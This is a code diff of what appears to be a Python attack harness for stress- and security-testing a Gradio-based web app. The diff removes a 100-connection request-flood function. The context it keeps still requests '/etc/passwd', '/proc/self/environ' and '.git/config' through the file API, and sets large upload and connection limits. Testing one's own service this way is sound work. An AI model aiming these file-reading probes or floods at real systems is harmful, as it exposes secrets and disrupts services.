@@ -3,7 +3,6 @@
 An attacker is a generator: each step is one try, and gives what came of it.
 """
 
-import asyncio
 import base64
 import itertools
 import json
@@ -58,9 +57,6 @@ UNITS: Final = 90 * MB  # bytes of a file of units
 UPLOAD: Final = 95 * MB
 HEADS: Final = 1_000  # connections
 AGENTS: Final = 4  # loops of one
-FLOODING: Final = 100  # connections
-FLOOD: Final = 5.0  # seconds
-LENGTH: Final = re.compile(r"content-length: (\d+)", re.IGNORECASE)
 FILES: Final = (".git/config", "app.py", "/etc/passwd", "/proc/self/environ")
 QUESTIONS: Final = [{"ask": "Tired?", "when": "between", "every": 1}]
 TAGS: Final = re.compile(r"<[^>]+>")
@@ -204,12 +200,6 @@ def foreign_files(attacker: Visitor) -> Iterator[Came]:
         yield _asked(attacker, f"/gradio_api/file={ROOT / name}")
 
 
-def flood(attacker: Visitor) -> Iterator[Came]:
-    """Requests one after the other on many connections."""
-    while True:
-        yield asyncio.run(_flood(attacker))
-
-
 # By what they do, with the seconds between two tries.
 KINDS: Final[Mapping[str, tuple[Attack, float]]] = {
     "bodies of 3 MB, wide and deep": (bodies, PAUSE),
@@ -254,32 +244,10 @@ def _attack(address: str, kind: str, number: int, going: Event, came: Came) -> N
                 came.update(found)
                 time.sleep(pause)
                 going.wait()
-        except (httpx.HTTPError, RuntimeError, OSError, EOFError) as error:  # it begins anew
+        except (httpx.HTTPError, RuntimeError, OSError) as error:  # it begins anew
             came[f"could not begin: {type(error).__name__}: {error}"[:100]] += 1
             time.sleep(10 * PAUSE)
             going.wait()
-
-
-async def _flood(attacker: Visitor) -> Came:
-    """Send requests for some seconds → their status codes. httpx would take longer than them."""
-    place, came = urlsplit(str(attacker.client.base_url)), Came()
-    asked = f"GET /results/ab?key=x HTTP/1.1\r\nHost: {place.netloc}\r\n\r\n".encode()
-    ends = time.monotonic() + FLOOD
-
-    async def ask() -> None:
-        reader, writer = await asyncio.open_connection(
-            place.hostname, place.port, local_addr=(attacker.source or "", 0)
-        )
-        with closing(writer):
-            while time.monotonic() < ends:
-                writer.write(asked)
-                head = (await reader.readuntil(b"\r\n\r\n")).decode()
-                if length := LENGTH.search(head):
-                    await reader.readexactly(int(length[1]))
-                came[head.split()[1]] += 1
-
-    await asyncio.gather(*(ask() for _ in range(FLOODING)))
-    return came
 
 
 def _sent(attacker: Visitor, path: str, **request: Any) -> Came:
